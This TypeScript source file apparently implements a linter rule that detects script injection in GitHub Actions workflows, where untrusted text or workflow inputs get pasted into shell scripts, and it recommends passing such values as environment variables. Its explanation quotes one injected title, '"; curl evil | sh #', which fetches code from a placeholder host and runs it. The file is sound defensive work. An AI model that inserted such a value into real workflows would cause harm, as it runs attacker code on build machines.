import { environmentsOf } from "../conditions.ts";
import type { Breach, Rule } from "../finding.ts";
import type { Repository } from "../repository.ts";
import { callsOf, createScriptInputs, intoScripts, scriptsOf } from "../script-inputs.ts";
import { findUntrusted } from "../untrusted-text.ts";
import type { Job, Step, TextMap, Workflow } from "../workflow.ts";

/** Text that strangers write, pasted into a script before the shell reads it. */
export const scriptInjection: Rule = {
  id: "script-injection",
  title: "A stranger's text becomes part of a script",
  level: "error",
  why: 'GitHub puts the text into the script before the shell sees it, so a title such as `"; curl evil | sh #` runs. Quotes do not help.',
  remedy:
    'Hand it over as a variable: `env: { TITLE: ${{ … }} }` at the step, and `"$TITLE"` in the script (`process.env.TITLE` in github-script).',
  check: (repository) => [
    ...repository.workflows.flatMap((workflow) =>
      workflow.jobs.flatMap((job) => job.steps.flatMap((step) => judge(workflow, job, step))),
    ),
    ...judgeInputs(repository),
  ],
};

function judge(workflow: Workflow, job: Job, step: Step): Breach[] {
  const environments = environmentsOf(workflow, job, step);
  return scriptsOf(step).flatMap((script) =>
    script.snippets.flatMap(({ source, place }) => {
      const path = findUntrusted(source, environments);
      if (path === null) return [];
      const through = path === source.toLowerCase() ? "" : ` (by \`${source.slice(0, 80)}\`)`;
      const message = `The script of job \`${job.id}\` contains \`${path}\`${through}, which a stranger may write.`;
      return [{ file: workflow.file, place, message }];
    }),
  );
}

/** Text that is handed to an action or a workflow of the repository, and ends in a script there. */
function judgeInputs(repository: Repository): Breach[] {
  const inputsOf = createScriptInputs(repository);
  return repository.workflows.flatMap((workflow) => [
    ...callsOf(repository, workflow).flatMap(({ target, given, environments, job }) =>
      judgeGiven(intoScripts(inputsOf(target), given), {
        file: workflow.file,
        environments,
        says: (path, name) =>
          `Job \`${job}\` gives \`${path}\`, which a stranger may write, to the input \`${name}\` of \`${target.file}\``,
      }),
    ),
    ...judgeGiven(intoScripts(inputsOf(workflow), workflow.defaults), {
      file: workflow.file,
      environments: [],
      says: (path, name) =>
        `The input \`${name}\` is by default \`${path}\`, which a stranger may write`,
    }),
  ]);
}

interface Giver {
  readonly file: string;
  readonly environments: readonly TextMap[];
  readonly says: (path: string, input: string) => string;
}

function judgeGiven(
  given: ReturnType<typeof intoScripts>,
  { file, environments, says }: Giver,
): Breach[] {
  return given.flatMap(([text, at, name]) =>
    text.snippets.flatMap(({ source, place }) => {
      const path = findUntrusted(source, environments);
      if (path === null) return [];
      const script = `${at.file}:${at.place.line}`;
      return [
        {
          file,
          place,
          message: `${says(path, name)}: it becomes part of the script at \`${script}\`.`,
          remedy: `At ${script} hand the input over as a variable: \`env: { VALUE: \${{ inputs.… }} }\` at the step, and \`"$VALUE"\` in the script (\`process.env.VALUE\` in github-script).`,
        },
      ];
    }),
  );
}
